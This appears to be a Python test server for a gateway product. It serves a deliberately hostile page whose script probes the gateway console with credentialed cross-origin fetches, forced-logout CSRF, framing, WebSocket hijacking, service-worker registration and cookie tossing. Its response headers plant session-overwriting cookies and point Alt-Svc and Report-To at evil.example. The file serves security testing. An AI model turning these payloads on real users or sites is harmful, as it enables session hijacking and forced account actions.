"""A gateway's page that attacks whoever looks at it. Each request is written to standard output as a line of JSON.

    python3 hostile_page.py PORT MARK CONSOLE [OTHER]    MARK names this gateway; OTHER: the remote session of another one,
                                                         given later by GET /other?URL"""
import http.server
import json
import sys

PORT, MARK, CONSOLE = int(sys.argv[1]), sys.argv[2], sys.argv[3]
OTHER = [""]

PAGE = """<!doctype html><html><head><meta charset=utf-8><title>{mark}</title>
<link rel=preload as=image href="{console}/favicon.ico"></head><body><h1>{mark}</h1><script>
const console_ = {console_json}, other = {other_json}, report = {{}};
async function probe(name, attack) {{
  try {{ report[name] = String(await attack()); }} catch (error) {{ report[name] = 'blocked: ' + error.name; }}
}}
const frame = (url) => new Promise((resolve) => {{
  const f = document.createElement('iframe');
  f.src = url;
  f.onload = () => {{ try {{ resolve('read ' + f.contentDocument.body.innerText.length); }} catch {{ resolve('blocked: frame'); }} }};
  document.body.append(f);
  setTimeout(() => resolve('blocked: silent'), 3000);
}});
const socket = (url) => new Promise((resolve) => {{
  const s = new WebSocket(url.replace(/^http/, 'ws'));
  s.onopen = () => resolve('open');
  s.onerror = s.onclose = () => resolve('blocked: socket');
}});
const post = (url) => new Promise((resolve) => {{
  const f = document.createElement('iframe'), form = document.createElement('form');
  f.name = 'target' + Math.random();
  form.method = 'post'; form.action = url; form.target = f.name;
  document.body.append(f, form);
  f.onload = () => resolve('sent');
  form.submit();
  setTimeout(() => resolve('sent'), 2000);
}});
(async () => {{
  await probe('opener', () => window.opener ? 'open' : 'blocked: null');
  await probe('cookies', () => document.cookie);
  await probe('read the console', async () => (await fetch(console_ + '/api/v1/me', {{ credentials: 'include' }})).status);
  await probe('log out by fetch', async () => (await fetch(console_ + '/api/v1/logout', {{ method: 'POST', mode: 'no-cors', credentials: 'include' }})).type);
  await probe('log out by header', async () => (await fetch(console_ + '/api/v1/logout', {{ method: 'POST', headers: {{ 'X-AMM-Request': '1' }}, credentials: 'include' }})).status);
  await probe('log out by form', () => post(console_ + '/api/v1/logout'));
  await probe('frame the console', () => frame(console_ + '/'));
  await probe('frame myself', () => frame('/'));
  await probe('frame the other', () => frame(other + '/'));
  await probe('read the other', async () => (await fetch(other + '/', {{ credentials: 'include' }})).status);
  await probe('post to the other', async () => (await fetch(other + '/post', {{ method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }})).type);
  await probe('socket to the console', () => socket(console_ + '/api/v1/events/stream'));
  await probe('socket to the other', () => socket(other + '/'));
  await probe('service worker', async () => (await navigator.serviceWorker.register('/worker.js')).scope);
  await probe('steal the ticket', async () => (await fetch('/.amm/status')).status);
  for (const domain of ['localhost', location.hostname])
    await probe('toss a cookie to ' + (domain === location.hostname ? 'myself' : domain), () => {{
      document.cookie = 'tossed={mark}; path=/; domain=' + domain; return document.cookie; }});
  await probe('take the place of the door', () => {{ document.cookie = 'amm-remote=evil; path=/'; document.cookie = '__Host-amm-remote=evil; path=/; secure'; return document.cookie; }});
  await fetch('/report', {{ method: 'POST', body: JSON.stringify(report) }});
  window.report = report;
}})();
</script></body></html>"""


class Page(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length)
        print(json.dumps({"method": self.command, "path": self.path, "body": body.decode(errors="replace"),
                          "headers": {k.lower(): v for k, v in self.headers.items()}}), flush=True)
        if self.path.startswith("/other?"):
            OTHER[0] = self.path.split("?", 1)[1]
        script = self.path == "/worker.js"
        text = "self.onfetch = () => {};" if script else PAGE.format(mark=MARK, console=CONSOLE, console_json=json.dumps(CONSOLE), other_json=json.dumps(OTHER[0]))
        self.send_response(200)
        for name, value in (
            ("Content-Type", "text/javascript" if script else "text/html; charset=utf-8"),
            ("Content-Length", str(len(text.encode()))),
            ("Strict-Transport-Security", "max-age=31536000; includeSubDomains; preload"),
            ("Clear-Site-Data", '"*"'), ("Alt-Svc", 'h2="evil.example:443"'), ("Service-Worker-Allowed", "/"),
            ("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Credentials", "true"),
            ("Set-Cookie", f"same={MARK}; Path=/"), ("Set-Cookie", f"wide={MARK}; Domain={self.headers.get('Host', '').split(':')[0]}; Path=/"),
            ("Set-Cookie", f"wider={MARK}; Domain=localhost; Path=/"), ("Set-Cookie", "amm-remote=evil; Path=/"),
            ("Set-Cookie", "__Host-amm-remote=evil; Path=/; Secure"), ("Set-Cookie", "amm-session=evil; Path=/"),
            ("Content-Security-Policy", "frame-ancestors *"), ("X-Frame-Options", "ALLOWALL"),
            ("Report-To", '{"group":"x","max_age":1,"endpoints":[{"url":"http://evil.example/"}]}'), ("NEL", '{"report_to":"x","max_age":1}'),
        ):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text.encode())

    do_POST = do_PUT = do_HEAD = do_GET

    def log_message(self, *_):
        pass


http.server.ThreadingHTTPServer(("0.0.0.0", PORT), Page).serve_forever()
